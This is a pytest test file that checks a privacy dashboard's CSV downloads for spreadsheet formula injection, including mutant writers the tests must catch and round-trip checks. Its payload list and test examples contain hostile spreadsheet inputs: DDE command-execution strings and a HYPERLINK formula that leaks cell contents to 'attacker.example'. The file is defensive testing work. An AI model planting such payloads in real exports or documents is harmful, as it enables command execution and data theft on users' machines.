"""No download starts a formula when a spreadsheet opens it, and every text can be had back as it was."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from core import Budget, Desk, Domain, Marginals, Unit
from core.kernel.query import Query
from core.release import sealing
from core.release.files import spreadsheet
from core.release.files.spreadsheet import neutral, plain, to_csv
from core.schema.domain import Booleans, Categories, Integers
from core.sessions import answer as session_answer
from dashboard.views.budget import spend_list

STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example?leak="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''",
    "=1,2\n=3",
    '"=1+1"',
    "x;=1+1",
    'x;"=1+1',
    "x\t@SUM(1)",
    "＝1+1",
    "－2+3;＠SUM(1)",
    "x;'quoted",
)
NAME, OTHER_NAME = "=1+cmd|' /C calc'!A0", "-ill"
DOMAIN = Domain(
    (
        Categories(name=NAME, values=PAYLOADS, other="@else"),
        Integers(name="+age", low=-5, high=4),
        Booleans(name=OTHER_NAME),
    )
)
WORDS = ("=1+1", "\t=1+1", "+1", "-rows older than 1", "@rows", "'=1", "plain words")


def starts_formula(content: bytes) -> list[str]:
    """Cells of a CSV file that are no numbers and begin as a formula does: as the file is meant, and to a program that
    splits at semicolons, or at tabs, and takes quotes in the middle of a cell for letters."""
    text = content.decode()
    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    assert len(cells) > 1
    for separator in (";", "\t"):
        cells += [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in line]
        cells += [part.lstrip('" ') for line in text.splitlines() for part in line.split(separator)[1:]]
    return [cell for cell in cells if cell.startswith(STARTS) and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return not cell.startswith(("\t", "\r"))


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    desk = Desk(tmp_path / "workspace")
    yield desk
    desk.close()


def downloads(desk: Desk) -> dict[str, bytes]:
    """Every CSV that the dashboard offers, made from a table whose names and categories are formulas."""
    rows = np.arange(180)
    values = [*PAYLOADS, "=not declared"]
    frame = pd.DataFrame(
        {NAME: [values[row % len(values)] for row in rows], "+age": rows % 10 - 5, OTHER_NAME: rows % 3 == 0}
    )
    held = desk.add_table(frame, DOMAIN, unit=Unit.row(), budget=Budget(40), name="=people")
    plan = desk.plan(held, [Marginals(order=2)], mechanism="laplace", budget=Budget(20))
    release = desk.release(plan)
    session = desk.ask(held, mechanism="online-laplace", budget=Budget(10), questions=len(WORDS))
    for place, words in enumerate(WORDS):
        weights = np.zeros(DOMAIN.shape((OTHER_NAME, "+age")), dtype=np.int64)
        weights[:, place] = 1
        session.answer(Query(columns=(OTHER_NAME, "+age"), weights=weights, words=words))
    statement = desk.statement(held)
    found = {
        "CSV": release.csv(),
        "Noisy tables": release.tables_csv(),
        "transcript": session.transcript_csv(),
        "ledger": spend_list.export(desk, statement, {held.id: held}),
    }
    with zipfile.ZipFile(io.BytesIO(release.zip())) as archive:
        found |= {name: archive.read(name) for name in archive.namelist() if name.endswith((".csv", ".tsv"))}
    return found


def test_no_download_holds_a_formula(desk: Desk) -> None:
    found = downloads(desk)
    assert set(found) == {"CSV", "Noisy tables", "transcript", "ledger", "synthetic.csv", "tables.csv"}
    assert {name: cells for name, content in found.items() if (cells := starts_formula(content))} == {}
    for name in ("CSV", "Noisy tables", "transcript"):
        assert b"'=" in found[name], "the formulas must have got there to be neutralised"


def careless(frame: pd.DataFrame) -> bytes:
    """The mutant: what pandas writes by itself."""
    return frame.to_csv(index=False, lineterminator="\n").encode()


def half_hearted(frame: pd.DataFrame) -> bytes:
    """The mutant: it forgets the names of the columns."""
    return frame.map(neutral).to_csv(index=False, lineterminator="\n").encode()


def only_equals(frame: pd.DataFrame) -> bytes:
    """The mutant: it knows one of the six beginnings."""
    safe = frame.map(lambda value: f"'{value}" if isinstance(value, str) and value.startswith("=") else value)
    safe.columns = pd.Index([f"'{name}" for name in safe.columns])
    return safe.to_csv(index=False, lineterminator="\n").encode()


@pytest.mark.parametrize("mutant", [careless, half_hearted, only_equals])
def test_a_careless_writer_is_caught(
    desk: Desk, monkeypatch: pytest.MonkeyPatch, mutant: Callable[[pd.DataFrame], bytes]
) -> None:
    for module in (sealing, session_answer, spend_list):
        monkeypatch.setattr(module, "to_csv", mutant)
    if mutant is careless:
        monkeypatch.setattr(spreadsheet, "neutral", lambda value: value)
    found = downloads(desk)
    caught = {name for name, content in found.items() if starts_formula(content)}
    assert "CSV" in caught
    if mutant is careless:
        assert {"Noisy tables", "transcript"} <= caught


def test_a_release_can_be_had_back_from_its_csv(desk: Desk) -> None:
    downloads(desk)
    [release] = [made for entry in desk.ledger.entries() if (made := desk.result(entry.plan_id)) is not None]
    records = release.records()
    read = pd.read_csv(io.BytesIO(release.csv()), dtype={f"'{NAME}": str}, keep_default_na=False)
    read.columns = pd.Index([plain(name) for name in read.columns])
    assert list(read.columns) == list(records.columns)
    assert [plain(value) for value in read[NAME]] == records[NAME].tolist()
    assert read["+age"].tolist() == records["+age"].tolist()
    assert read[OTHER_NAME].astype(str).str.lower().tolist() == records[OTHER_NAME].astype(str).str.lower().tolist()
    assert set(records[NAME]) <= {*PAYLOADS, "@else"}


def texts(letters: str) -> st.SearchStrategy[str]:
    return st.text(st.sampled_from(letters), max_size=6)


def comes_back(values: list[str], name: str) -> None:
    content = to_csv(pd.DataFrame({name: values, "n": range(len(values))}))
    lines = list(csv.reader(io.StringIO(content.decode(), newline="")))
    assert starts_formula(content) == []
    assert plain(lines[0][0]) == name
    assert [plain(line[0]) for line in lines[1:]] == values


PLAIN = "=+-@\t\n'\" ,;|ab1＝"


@given(values=st.lists(texts(PLAIN), min_size=1, max_size=8), name=texts(PLAIN).filter(str.strip))
@settings(max_examples=60, deadline=None)
def test_any_text_is_neutral_and_comes_back(values: list[str], name: str) -> None:
    comes_back(values, name)


@given(values=st.lists(texts(PLAIN + "\r"), min_size=1, max_size=8), name=texts(PLAIN + "\r").filter(str.strip))
@example(values=["line\r=cmd|' /C calc'!A0"], name="town")
@example(values=["\r=1+1"], name="town")
@settings(max_examples=60, deadline=None)
def test_a_carriage_return_starts_no_cell_of_its_own(values: list[str], name: str) -> None:
    comes_back(values, name)
